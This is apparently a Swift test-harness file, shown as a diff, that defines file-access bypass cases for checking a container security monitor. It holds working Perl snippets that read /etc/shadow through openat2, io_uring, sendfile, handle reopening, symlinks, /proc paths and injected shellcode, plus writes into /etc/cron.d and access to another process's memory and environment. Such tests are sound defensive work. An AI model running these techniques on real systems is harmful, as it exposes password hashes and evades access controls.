@@ -1,0 +1,218 @@
+import ContainerHarness
+
+/// F1 to F8: files opened, changed and named in unusual ways.
+struct FileBypasses {
+    let code: ServiceCode
+
+    var all: [Bypass] { opening + ring + changing + naming }
+
+    private var opening: [Bypass] {
+        [
+            code.reads(
+                "F1", "openat2", "openat2 of /etc/shadow",
+                #"""
+                my ($path, $how) = ("/etc/shadow", pack("QQQ", 0, 0, 0));
+                slurp(syscall(437, -100, $path, $how, 24));
+                """#),
+            code.reads(
+                "F1", "openat2-beneath", "openat2 with RESOLVE_BENEATH from an O_PATH directory",
+                #"""
+                my ($etc, $name, $how) = ("/etc", "shadow", pack("QQQ", 0, 0, 8));
+                my $at = syscall(257, -100, $etc, 0x210000);
+                slurp(syscall(437, $at, $name, $how, 24));
+                """#),
+            code.writes(
+                "F1", "creat", "creat of a file below /etc", "/etc/cron.d/x",
+                #"""
+                my $path = "/tmp/../etc/cron.d/x"; my $fd = syscall(85, $path, 0644);
+                syscall(1, $fd, $token, length $token); "fd $fd";
+                """#),
+            code.reads(
+                "F1", "o-path-reopened", "an O_PATH descriptor opened again by /proc/self/fd",
+                #"""
+                my $path = "/etc/shadow"; my $fd = syscall(257, -100, $path, 0x200000);
+                open(my $in, "<", "/proc/self/fd/$fd") or return "error $!"; slurp(fileno $in);
+                """#),
+            code.reads(
+                "F1", "dirfd", "openat from an O_PATH directory",
+                #"""
+                my ($etc, $name) = ("/etc", "shadow");
+                my $at = syscall(257, -100, $etc, 0x210000); slurp(syscall(257, $at, $name, 0));
+                """#),
+            Bypass(
+                "F1",
+                Attack("open-by-handle", .file, "open_by_handle_at of a file in /run") { target in
+                    try target.container.plant(ContainerFile("/run/h", target.canary.secret))
+                    let reply = try code.run(
+                        #"""
+                        chdir("/run") or return "error chdir $!";
+                        my ($path, $handle, $mount) = ("h", pack("Ll", 128, 0) . "\0" x 128, "\0" x 4);
+                        syscall(303, -100, $path, $handle, $mount, 0) == 0 or return "error name $!";
+                        slurp(syscall(304, -100, $handle, 0));
+                        """#, in: target)
+                    return .byText(reply, has: target.canary.secret, what: "the file was shown")
+                }),
+            code.reads(
+                "F3", "sendfile", "sendfile from /etc/shadow into a pipe",
+                #"""
+                my $path = "/etc/shadow"; my $fd = syscall(257, -100, $path, 0);
+                pipe(my $r, my $w); syscall(40, fileno($w), $fd, 0, 4096); close $w;
+                slurp(fileno $r);
+                """#),
+            code.reads(
+                "E15", "compat-open", "open by int 0x80 from code written into memory",
+                #"""
+                my $page = map_memory(8192, 7, 0x22, -1, 0);
+                my ($path, $result) = ($page + 4096, $page + 5000);
+                poke($path, "/etc/shadow\0");
+                poke($page, "\x53\xb8\x05\0\0\0\xbb" . pack("L", $path) . "\x31\xc9\x31\xd2\xcd\x80"
+                    . "\x89\x04\x25" . pack("L", $result) . "\x5b\xc3");
+                DynaLoader::dl_install_xsub("main::go", $page); eval { go() };
+                slurp(unpack("l", peek($result, 4)));
+                """#),
+        ]
+    }
+
+    /// io_uring, inline and by a worker thread of the kernel (IOSQE_ASYNC).
+    private var ring: [Bypass] {
+        [("inline", 0), ("worker", 16)].map { name, flags in
+            code.reads(
+                "F2", "io-uring-open-\(name)", "open by io_uring, \(name)",
+                Ring.submit + #"""
+                    my $path = "/etc/shadow";
+                    slurp(submit(pack("CCSlQQLLQ", 18, \#(flags), 0, -100, 0, address($path), 0, 0, 1)));
+                    """#)
+        }
+    }
+
+    private static let unjudged =
+        "changes of names and attributes are recorded, and not judged before they happen"
+
+    /// What the act leaves behind is looked at from outside.
+    private func change(
+        _ name: String, _ summary: String, _ act: String, _ happened: @escaping @Sendable (AttackTarget) throws -> Bool
+    ) -> Bypass {
+        let code = code
+        return Bypass(
+            "F4",
+            Attack(name, .file, summary) { target in
+                for path in ["/srv/victim", "/srv/other"] {
+                    try target.container.removeFile(path)
+                }
+                try target.container.plant(ContainerFile("/srv/victim", "whole"))
+                let reply = try code.run(act, in: target)
+                return try happened(target)
+                    ? .happened(evidence: "the change is there")
+                    : .didNotHappen(evidence: "no change; \(reply.prefix(80))")
+            })
+    }
+
+    private var changing: [Bypass] {
+        let isGone: @Sendable (AttackTarget) throws -> Bool = {
+            try $0.container.contents(of: "/srv/victim") == nil
+        }
+        let hasOther: @Sendable (AttackTarget) throws -> Bool = {
+            try $0.container.contents(of: "/srv/other") != nil
+        }
+        return [
+            change("unlink", "unlink of a file", #"unlink("/srv/victim") or "error $!""#, isGone),
+            change(
+                "rename", "rename of a file", #"rename("/srv/victim", "/srv/other") or "error $!""#,
+                isGone),
+            change(
+                "exchange", "renameat2 with EXCHANGE",
+                #"""
+                open(my $out, ">", "/tmp/own"); close $out;
+                my ($a, $b) = ("/srv/victim", "/srv/other"); link($a, $b);
+                syscall(316, -100, $a, -100, $b, 2);
+                """#, hasOther),
+            change(
+                "link", "a second name of a file", #"link("/srv/victim", "/srv/other") or "error $!""#,
+                hasOther),
+            change(
+                "truncate", "truncate by path",
+                #"my $path = "/srv/victim"; syscall(76, $path, 0)"#
+            ) { try $0.container.contents(of: "/srv/victim") == "" },
+            change(
+                "mknod", "mknod of a file", #"my $path = "/srv/other"; syscall(133, $path, 0100644, 0)"#,
+                hasOther),
+            change("chmod", "chmod of a file", #"chmod(07777, "/srv/victim") or "error $!""#) {
+                try $0.container.mode(of: "/srv/victim") & 0o7777 == 0o7777
+            },
+        ].map { $0.attack.name == "mknod" ? $0.notCovered(in: [.signal], Self.unjudged) : $0.notCovered(Self.unjudged) }
+    }
+
+    private var naming: [Bypass] {
+        [
+            code.reads(
+                "E3", "symlink", "a symlink to /etc/shadow",
+                #"symlink("/etc/shadow", "/tmp/l"); open(my $in, "<", "/tmp/l") or return "error $!"; slurp(fileno $in)"#),
+            code.reads(
+                "E3", "symlinked-directory", "a symlinked directory with ..",
+                #"""
+                symlink("/etc/ssl", "/tmp/d");
+                open(my $in, "<", "/tmp/d/../shadow") or return "error $!"; slurp(fileno $in)
+                """#),
+            code.reads(
+                "E3", "proc-self-root", "/proc/self/root/etc/shadow",
+                #"open(my $in, "<", "/proc/self/root/etc/shadow") or return "error $!"; slurp(fileno $in)"#),
+            code.reads(
+                "F7", "proc-root", "/etc/shadow by another process' /proc/PID/root",
+                #"my $p = getppid(); open(my $in, "<", "/proc/$p/root/etc/shadow") or return "error $!"; slurp(fileno $in)"#),
+            Bypass(
+                "F7",
+                Attack("proc-environ", .file, "another process' environment") { [code] target in
+                    let reply = try code.run(
+                        #"my $p = getppid(); open(my $in, "<", "/proc/$p/environ") or return "error $!"; slurp(fileno $in)"#,
+                        in: target)
+                    return .byText(reply, has: "HOME=/root", what: "the environment was shown")
+                }),
+            code.does(
+                "E14", .file, "proc-mem", "another process' memory opened for writing",
+                #"my $p = getppid(); open(my $out, "+<", "/proc/$p/mem") or return "error $!"; "done""#),
+            Bypass(
+                "F6",
+                Attack("deep-path", .file, "a file 60 directories deep, of 6,000 bytes") {
+                    [code] target in
+                    let token = Canary.token()
+                    let reply = try code.run(
+                        #"""
+                        chdir("/tmp"); for my $i (1..60) { my $n = "d" x 100; mkdir($n); chdir($n) or return "error $!"; }
+                        open(my $out, ">", "f") or return "error $!"; syswrite($out, "\#(token)"); close $out;
+                        open(my $in, "<", "f") or return "error $!"; slurp(fileno $in)
+                        """#, in: target)
+                    return .byText(reply, has: token, what: "the file was written and read")
+                }),
+            Bypass(
+                "F8",
+                Attack("odd-name", .file, "a name that is not UTF-8, with newline and quotes") {
+                    [code] target in
+                    let token = Canary.token()
+                    let reply = try code.run(
+                        #"""
+                        my $n = "/tmp/\xff\xfe\n\"\\\x1b"; open(my $out, ">", $n) or return "error $!";
+                        syswrite($out, "\#(token)"); close $out;
+                        open(my $in, "<", $n) or return "error $!"; slurp(fileno $in)
+                        """#, in: target)
+                    return .byText(reply, has: token, what: "the file was written and read")
+                }),
+        ]
+    }
+}
+
+/// Perl that sets up an io_uring and submits one entry; its value is the entry's result.
+enum Ring {
+    static let submit = #"""
+        sub submit { my ($entry) = @_;
+            my $p = "\0" x 120; my $fd = syscall(425, 4, $p); return -1000 - $! if $fd < 0;
+            my @sq = unpack("x40 L8", $p); my @cq = unpack("x80 L8", $p);
+            my $rings = map_memory(65536, 3, 0x8001, $fd, 0);
+            my $entries = map_memory(4096, 3, 0x8001, $fd, 0x10000000);
+            $entry .= "\0" x (64 - length $entry);
+            poke($entries, $entry); poke($rings + $sq[6], pack("L", 0));
+            poke($rings + $sq[1], pack("L", 1));
+            syscall(426, $fd, 1, 1, 1, 0, 0);
+            return unpack("l", peek($rings + $cq[5] + 8, 4)); }
+
+        """#
+}
